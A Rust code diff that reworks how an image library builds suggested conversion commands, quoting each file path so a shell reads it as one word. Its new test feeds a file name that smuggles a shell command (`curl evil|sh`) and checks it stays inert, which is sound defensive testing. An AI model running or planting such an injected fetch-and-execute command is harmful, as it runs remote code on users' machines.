@@ -5,11 +5,12 @@ use crate::endings::{AVIF, CAPITALS, HEIC, JPEG_2000, JXL, RAW, READ};
 use std::io::Read;
 use std::path::{Path, PathBuf};
 
-/// What `IN` and `OUT` stand for is put in for each file.
+/// A format, and what converts a file of it.
 struct Foreign {
     name: &'static str,
     /// File endings in small letters.
     endings: &'static [&'static str],
+    /// For words that start with `IN` and `OUT` the paths are put in, quoted.
     command: &'static str,
     is: fn(&[u8]) -> bool,
 }
@@ -112,20 +113,20 @@ const FOREIGN: &[Foreign] = &[
     Foreign {
         name: "a GIF",
         endings: &["gif"],
-        command: "magick 'IN[0]' OUT.png",
+        command: "magick IN[0] OUT.png",
         is: |s| s.starts_with(b"GIF8"),
     },
     Foreign {
         name: "a Photoshop",
         endings: &["psd", "psb"],
-        command: "magick 'IN[0]' OUT.png",
+        command: "magick IN[0] OUT.png",
         is: |s| s.starts_with(b"8BPS"),
     },
     Foreign { name: "an SVG", endings: &["svg"], command: "rsvg-convert IN -o OUT.png", is: is_svg },
     Foreign {
         name: "a PDF",
         endings: &["pdf"],
-        command: "magick -density 300 'IN[0]' OUT.png",
+        command: "magick -density 300 IN[0] OUT.png",
         is: |s| s.starts_with(b"%PDF"),
     },
     Foreign {
@@ -155,7 +156,7 @@ const FOREIGN: &[Foreign] = &[
     Foreign {
         name: "an icon",
         endings: &["ico"],
-        command: "magick 'IN[0]' OUT.png",
+        command: "magick IN[0] OUT.png",
         is: |s| s.starts_with(&[0, 0, 1, 0]),
     },
     Foreign {
@@ -169,15 +170,21 @@ const FOREIGN: &[Foreign] = &[
 /// Why a file that starts so cannot be read, with what converts it; `None` where it is of no known kind.
 pub(crate) fn refusal(path: &Path, start: &[u8]) -> Option<DecodeError> {
     let found = FOREIGN.iter().find(|f| (f.is)(start))?;
-    let (from, to) = (quoted(path), quoted(&Foreign::output(path)));
-    let command = match found.command.contains("'IN[0]'") {
-        true => found.command.replace("'IN[0]'", &format!("'{}[0]'", path.display())),
-        false => found.command.replace("IN", &from),
-    };
-    Some(DecodeError::ForeignFormat { format: found.name, command: command.replace("OUT", &to) })
+    Some(DecodeError::ForeignFormat { format: found.name, command: found.command_for(path) })
 }
 
 impl Foreign {
+    /// The command that converts a file, as a shell reads it.
+    fn command_for(&self, path: &Path) -> String {
+        let to = quoted(&Foreign::output(path).display().to_string());
+        let put_in = |word: &str| match (word.strip_prefix("IN"), word.strip_prefix("OUT")) {
+            (Some(rest), _) => quoted(&format!("{}{rest}", path.display())),
+            (_, Some(rest)) => format!("{to}{rest}"),
+            _ => word.to_owned(),
+        };
+        self.command.split(' ').map(put_in).collect::<Vec<_>>().join(" ")
+    }
+
     /// What `OUT` stands for: the name without its ending, or the whole name where the ending is not that of such a file or an image
     /// of the shorter name is there. The input, or another photo, would be written over or taken for the copy otherwise.
     fn output(path: &Path) -> PathBuf {
@@ -186,11 +193,10 @@ impl Foreign {
     }
 }
 
-/// A path as a shell reads it.
-fn quoted(path: &Path) -> String {
-    let text = path.display().to_string();
+/// One word as a shell reads it.
+fn quoted(text: &str) -> String {
     let plain = |c: char| c.is_alphanumeric() || "/._-+".contains(c);
-    if text.chars().all(plain) { text } else { format!("'{}'", text.replace('\'', "'\\''")) }
+    if text.chars().all(plain) { text.to_owned() } else { format!("'{}'", text.replace('\'', "'\\''")) }
 }
 
 fn has_foreign_ending(path: &Path) -> bool {
@@ -259,6 +265,16 @@ mod tests {
             let words = refusal(&at(name), start).unwrap().to_string();
             assert!(words.ends_with(&format!(" {}", at(output).display())), "{name}: {words}");
         }
+    }
+
+    #[test]
+    fn a_file_name_that_is_a_shell_command_or_holds_in_or_out_stays_one_word() {
+        let words = |name: &str, start: &[u8]| refusal(Path::new(name), start).unwrap().to_string();
+        let command = words("IN OUT/x';curl evil|sh;'.gif", b"GIF89a");
+        let wanted = r"magick 'IN OUT/x'\'';curl evil|sh;'\''.gif[0]' 'IN OUT/x'\'';curl evil|sh;'\'''.png";
+        assert!(command.ends_with(wanted), "{command}");
+        let command = words("OUT/a b.heic", HEIC);
+        assert!(command.ends_with("heif-convert -q 95 'OUT/a b.heic' 'OUT/a b'.jpg"), "{command}");
     }
 
     #[test]
